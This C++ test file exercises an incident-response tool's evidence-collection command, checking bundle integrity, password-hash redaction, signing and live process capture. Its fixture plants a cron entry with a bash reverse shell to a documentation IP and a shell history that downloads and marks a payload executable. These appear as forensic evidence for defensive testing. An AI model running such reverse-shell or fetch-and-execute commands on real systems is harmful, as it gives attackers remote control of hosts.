// vigil collect (issue 16): the incident bundle of an image and of this host. Unpacked with tar
// as an analyst would, `sha256sum -c MANIFEST.sha256` verifies every member; password hashes are
// gone unless --with-secrets; the bundle's own SHA-256 sits beside it and, with a key, its
// signature; the processes a finding names come with their /proc files and program; a bundle
// is never written inside the inspected root.
#include <unistd.h>

#include <filesystem>
#include <thread>

#include <gtest/gtest.h>

#include "e2e/fixture_root.hpp"
#include "e2e/vigil_run.hpp"
#include "support/temp_dir.hpp"

using namespace vigil::testing;
namespace fs = std::filesystem;

namespace {

// Unpacks the bundle into `into` and runs sha256sum -c there; the exit codes of both.
std::pair<int, int> unpack_and_verify(const std::string& bundle, const std::string& into) {
  fs::create_directories(into);
  auto tar = run_vigil_as({"/usr/bin/tar", "--zstd", "-xf", bundle, "-C", into});
  EXPECT_EQ(tar.exit_code, 0) << tar.err;
  auto sum = run_vigil_as({"/bin/sh", "-c", "cd \"$1\" && sha256sum --quiet -c MANIFEST.sha256", "sh", into});
  EXPECT_EQ(sum.exit_code, 0) << sum.out << sum.err;
  return {tar.exit_code, sum.exit_code};
}

void evidence_root(const TempDir& d) {
  base_root(d);
  d.write("etc/shadow", "root:$y$j9T$salt$hashhashhash:19000::::::\nalice:!$6$s$h:19000::::::\nwww-data:*:19000::::::\n");
  d.write("etc/cron.d/backup", "*/5 * * * * root /bin/bash -c 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1'\n");
  d.write("root/.bash_history", "wget http://203.0.113.9/x -O /tmp/.x\nchmod +x /tmp/.x\n");
  age_files(d);
}

}  // namespace

TEST(Collect, AnImagesBundleVerifiesAndKeepsNoPasswordHashes) {
  if (!fs::exists("/usr/bin/zstd")) GTEST_SKIP() << "zstd is not installed (make setup installs it): tar cannot unpack";
  TempDir d("vigil-collect-img"), out("vigil-collect-out");
  evidence_root(d);
  std::string bundle = out / "case.tar.zst";
  auto r = run_vigil({"collect", bundle, "--root", d.path(), "--key", out / "key.pem"});
  EXPECT_EQ(r.exit_code, 2) << "a missing key is an error before anything is written";
  EXPECT_FALSE(fs::exists(bundle));
  r = run_vigil({"collect", bundle, "--root", d.path()});
  ASSERT_EQ(r.exit_code, 0) << r.err << r.out;
  unpack_and_verify(bundle, out / "x");
  auto shadow = slurp(out / "x/files/etc/shadow");
  EXPECT_EQ(shadow.find("$y$"), std::string::npos) << shadow;
  EXPECT_NE(shadow.find("root:<removed>:19000"), std::string::npos) << shadow;
  EXPECT_NE(shadow.find("alice:!<removed>:"), std::string::npos) << "the lock mark stays";
  EXPECT_NE(shadow.find("www-data:*:"), std::string::npos);
  EXPECT_EQ(slurp(out / "x/files/etc/cron.d/backup"), slurp(d / "etc/cron.d/backup"));
  EXPECT_TRUE(fs::exists(out / "x/files/root/.bash_history"));
  auto doc = nlohmann::json::parse(slurp(out / "x/triage.json"), nullptr, false);
  ASSERT_FALSE(doc.is_discarded());
  EXPECT_FALSE(doc["findings"].empty());
  EXPECT_NE(slurp(out / "x/triage.html").find("<!DOCTYPE html>"), std::string::npos);
  auto collection = slurp(out / "x/COLLECTION.txt");
  EXPECT_NE(collection.find("command: "), std::string::npos);
  EXPECT_NE(collection.find("password hashes: removed from 1 file(s)"), std::string::npos) << collection;
  auto sum = run_vigil_as({"/usr/bin/sha256sum", bundle});
  EXPECT_EQ(slurp(bundle + ".sha256").substr(0, 64), sum.out.substr(0, 64));
  // --with-secrets keeps them.
  r = run_vigil({"collect", out / "secrets.tar.zst", "--root", d.path(), "--with-secrets"});
  ASSERT_EQ(r.exit_code, 0) << r.err;
  unpack_and_verify(out / "secrets.tar.zst", out / "s");
  EXPECT_NE(slurp(out / "s/files/etc/shadow").find("$y$j9T$salt$hashhashhash"), std::string::npos);
  // Never inside the inspected root.
  r = run_vigil({"collect", d / "tmp/case.tar.zst", "--root", d.path()});
  EXPECT_EQ(r.exit_code, 2);
  EXPECT_FALSE(fs::exists(d / "tmp/case.tar.zst"));
}

TEST(Collect, ALiveBundleHoldsTheFlaggedProcessAndIsSigned) {
  if (!fs::exists("/usr/bin/zstd")) GTEST_SKIP() << "zstd is not installed (make setup installs it): tar cannot unpack";
  TempDir d("vigil-collect-live"), out("vigil-collect-out");
  auto hidden = d / ".x/sleepy";
  fs::create_directories(fs::path(hidden).parent_path());
  fs::copy_file("/usr/bin/sleep", hidden);
  ::chmod(hidden.c_str(), 0755);
  Planted p(hidden, {"sleepy", "30"});
  ASSERT_GT(p.pid(), 0);
  std::this_thread::sleep_for(std::chrono::milliseconds(200));
  auto key = run_vigil_as({"/usr/bin/openssl", "genpkey", "-algorithm", "ed25519", "-out", out / "key.pem"});
  ASSERT_EQ(key.exit_code, 0) << key.err;
  std::string bundle = out / "live.tar.zst";
  auto r = run_vigil({"collect", bundle, "--quick", "--key", out / "key.pem"});
  ASSERT_EQ(r.exit_code, 0) << r.err << r.out;
  unpack_and_verify(bundle, out / "x");
  std::string proc = out / ("x/proc/" + std::to_string(p.pid()));
  ASSERT_TRUE(fs::exists(proc + "/cmdline")) << slurp(out / "x/COLLECTION.txt") << r.out;
  EXPECT_NE(slurp(proc + "/cmdline").find("sleepy"), std::string::npos);
  EXPECT_TRUE(fs::exists(proc + "/maps"));
  EXPECT_EQ(slurp(proc + "/exe"), slurp("/usr/bin/sleep")) << "the program as it runs";
  EXPECT_EQ(slurp(bundle + ".sig").rfind("vigil-bundle-signature ed25519 ", 0), 0u);
}
